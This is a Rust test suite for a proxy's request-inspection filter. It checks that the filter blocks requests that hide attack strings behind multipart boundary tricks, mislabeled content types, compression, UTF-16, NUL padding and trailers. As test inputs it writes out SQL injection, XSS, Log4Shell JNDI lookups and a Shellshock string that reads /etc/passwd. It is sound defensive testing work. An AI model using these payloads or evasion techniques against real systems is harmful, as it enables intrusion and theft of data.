//! Content that says one thing of itself and is another: what readers of backends may make of it is
//! judged, or refused.

use std::sync::OnceLock;

use bytes::Bytes;
use http::{HeaderMap, Request};
use proxy_core::RequestHead;
use proxy_filter::inspect::{Engine, InspectConfig, Inspection, Inspector, Next, Step};

const ATTACK: &str = "1' union select 1,2,3-- -";
const FORM: &str = "a=b&q=1'+union+select+1,2,3--+-";

/// Rules are compiled once.
fn engine() -> &'static Engine {
    static ENGINE: OnceLock<Engine> = OnceLock::new();
    ENGINE.get_or_init(|| Engine::new(InspectConfig::default()).expect("a configuration"))
}

fn begin(types: &[&str]) -> Next {
    let mut request = Request::post("/x").body(()).expect("a request");
    for kind in types {
        request.headers_mut().append("content-type", kind.parse().expect("a value"));
    }
    engine().begin(RequestHead::of(&request), true).next
}

/// The rules that refuse content of these types; none where it passes.
fn refused(types: &[&str], content: &[u8]) -> bool {
    [1, 100, 1 << 20].map(|piece| match begin(types) {
        Next::Pass => false,
        Next::Block => true,
        Next::Content(mut inspection) => {
            content
                .chunks(piece)
                .any(|chunk| inspection.chunk(&Bytes::copy_from_slice(chunk)) == Step::Block)
                || inspection.finish() == Step::Block
        }
    }) == [true; 3]
}

fn part(disposition: &str, content: &str) -> String {
    format!("--B\r\nContent-Disposition: form-data; {disposition}\r\n\r\n{content}\r\n--B--\r\n")
}

#[test]
fn a_delimiter_in_mid_line_ends_no_value() {
    let kind = "multipart/form-data; boundary=B";
    for content in [
        format!("x--B-- {ATTACK}"),
        format!("x--B {ATTACK}"),
        format!("x--B {ATTACK}\r\nno field {ATTACK}"),
        format!("x\r\n--BB {ATTACK}"),
    ] {
        assert!(refused(&[kind], part("name=\"q\"", &content).as_bytes()), "{content}");
    }
    let after = part("name=\"q\"", "1") + ATTACK;
    assert!(refused(&[kind], after.as_bytes()));
    assert!(!refused(&[kind], part("name=\"q\"", "a --B b -- B").as_bytes()));
}

#[test]
fn no_file_name_hides_a_value() {
    let kind = "multipart/form-data; boundary=B";
    for parameters in ["filename_=x", "filenames=x", "filename*=UTF-8''x", "filename=\"\""] {
        let content = part(&format!("name=\"q\"; {parameters}"), ATTACK);
        assert!(refused(&[kind], content.as_bytes()), "{parameters}");
        let fine = part(&format!("name=\"q\"; {parameters}"), "hello there");
        assert!(!refused(&[kind], fine.as_bytes()), "{parameters}");
    }
}

#[test]
fn no_second_or_wrong_boundary_hides_the_parts() {
    let content = part("name=\"q\"", ATTACK);
    for kind in [
        "multipart/form-data; xboundary=zzz; boundary=B",
        "multipart/form-data; boundary=zzz; boundary=B",
        "multipart/form-data; boundary=zzz",
        "multipart/form-data; x=\"boundary=zzz\"; boundary=B",
    ] {
        assert!(refused(&[kind], content.as_bytes()), "{kind}");
    }
    let fine = part("name=\"q\"", "hello");
    assert!(refused(&["multipart/form-data; boundary=zzz"], fine.as_bytes()), "no delimiter");
    assert!(!refused(&["multipart/form-data; charset=utf-8; boundary=\"B\""], fine.as_bytes()));
}

#[test]
fn a_type_is_said_once() {
    let form = "application/x-www-form-urlencoded";
    for types in [
        &["image/png", form][..],
        &["image/png, application/x-www-form-urlencoded"],
        &["application/json", form],
        &["multipart/form-data; boundary=A", "multipart/form-data; boundary=B"],
    ] {
        assert!(refused(types, b"a=hello"), "{types:?}");
    }
    for types in [&[form, form][..], &["application/json, text/plain, */*"]] {
        assert!(!refused(types, b"a=hello"), "{types:?}");
    }
}

#[test]
fn media_and_unknown_types_are_known_by_their_first_bytes() {
    let json = format!("{{\"a\":\"{ATTACK}\"}}");
    let xml = format!("<?xml version=\"1.0\"?><a>{ATTACK}</a>");
    for kind in ["image/png", "video/mp4", "font/woff2", "application/octet-stream", "x-own/kind"] {
        for content in [FORM, ATTACK, &json, &xml] {
            assert!(refused(&[kind], content.as_bytes()), "{kind} {content}");
        }
    }
    assert!(refused(&[], FORM.as_bytes()));
    let mut picture = b"\x89PNG\r\n\x1a\n\0\0\0\rIHDR\0\0\x02\x80".to_vec();
    picture.extend_from_slice(FORM.as_bytes());
    assert!(!refused(&["image/png"], &picture), "a picture");
}

#[test]
fn nothing_is_cut_in_two_in_a_value_that_comes_in_one_piece() {
    let request = Request::post("/")
        .header("content-type", "application/x-www-form-urlencoded")
        .body(())
        .expect("a request");
    for (window, from) in [(4096, 4080), (64 * 1024, 65_520)] {
        let config = InspectConfig { window, overlap: 256, ..InspectConfig::default() };
        let engine = engine().with_config(config).expect("a configuration");
        for before in (from..from + 32).step_by(5) {
            let attack = "%3Cscript%3Ealert(1)%3C/script%3E";
            let rest = "y".repeat(window + 1000);
            let content = format!("a={}{attack}{rest}&b=c", "x".repeat(before));
            let (blocked, _) = engine.judge(RequestHead::of(&request), content.as_bytes());
            assert!(blocked, "{window} {before}");
        }
    }
}

fn inspection(types: &[&str]) -> Box<dyn Inspection> {
    match begin(types) {
        Next::Content(inspection) => inspection,
        _ => panic!("content is inspected"),
    }
}

#[test]
fn trailers_are_judged_as_fields_are() {
    let trailers = |value: &str| {
        let mut fields = HeaderMap::new();
        fields.insert("x-note", value.parse().expect("a value"));
        fields
    };
    let mut fine = inspection(&["text/plain"]);
    fine.chunk(&Bytes::from_static(b"hello"));
    assert_eq!(fine.trailers(&trailers("hello")), Step::Pass);
    assert_eq!(fine.finish(), Step::Pass);
    let mut attack = inspection(&["text/plain"]);
    assert_eq!(attack.trailers(&trailers(ATTACK)), Step::Block);
    assert_eq!(attack.finish(), Step::Block);
}

#[test]
fn coded_content_is_judged_a_turn_at_a_time() {
    let mut text =
        (0..40_000).map(|n: u64| format!("lorem {} ", n * n)).collect::<String>().into_bytes();
    text.extend_from_slice(b" <script>alert(1)</script> ");
    let content = Bytes::from(zstd::encode_all(&text[..], 3).expect("memory"));
    let request = Request::post("/")
        .header("content-type", "text/plain")
        .header("content-encoding", "zstd")
        .body(())
        .expect("a request");
    let Next::Content(mut inspection) = engine().begin(RequestHead::of(&request), true).next else {
        panic!("content is inspected");
    };
    let mut step = inspection.chunk(&content);
    let mut turns = 1;
    while inspection.is_busy() {
        step = inspection.chunk(&Bytes::new());
        turns += 1;
    }
    assert!(turns >= 8, "{turns} turns");
    assert!(step == Step::Block || inspection.finish() == Step::Block);
}

/// Text is judged as a whole, whatever is around it.
#[test]
fn no_bytes_around_it_hide_a_text() {
    let wide = |text: &str| text.encode_utf16().flat_map(u16::to_le_bytes).collect::<Vec<u8>>();
    let nuls = |attack: &[u8]| [&[0; 40][..], attack].concat();
    let script = "<script>alert(1)</script>";
    for content in [
        wide(script),
        [b"\xFF\xFE", &wide(&script.repeat(40))[..]].concat(),
        nuls(b"1\x0bunion\x0bselect\x0bpass,2\x0bfrom\x0busers"),
        nuls(b"<svg\x0conload=alert(1)>"),
        nuls(&[script.as_bytes(), &[1; 300]].concat()),
        [&[0, 1, 0xFF].repeat(400)[..], script.as_bytes(), &[0, 1, 0xFF].repeat(400)].concat(),
    ] {
        assert!(refused(&["text/plain"], &content), "{}", String::from_utf8_lossy(&content));
    }
    assert!(!refused(&["text/plain"], &wide("hello there")));
}

/// Fields that browsers fill are judged where they hold what browsers do not write.
#[test]
fn no_field_hides_an_expansion() {
    let judged = |name: &str, value: &str| {
        let request = Request::get("/").header(name, value).body(()).expect("a request");
        engine().judge(RequestHead::of(&request), b"").0
    };
    for name in ["accept", "accept-language", "authorization", "sec-fetch-site", "if-none-match"] {
        for attack in
            ["${jndi:ldap://x/a}", "{${jndi:ldap://x/a}}", "{}() { :;}; /bin/cat /etc/passwd"]
        {
            assert!(judged(name, attack), "{name}: {attack}");
        }
        assert!(!judged(name, "\"{0F5C2A1D-1111-2222-3333-444455556666},3\""), "{name}");
    }
}
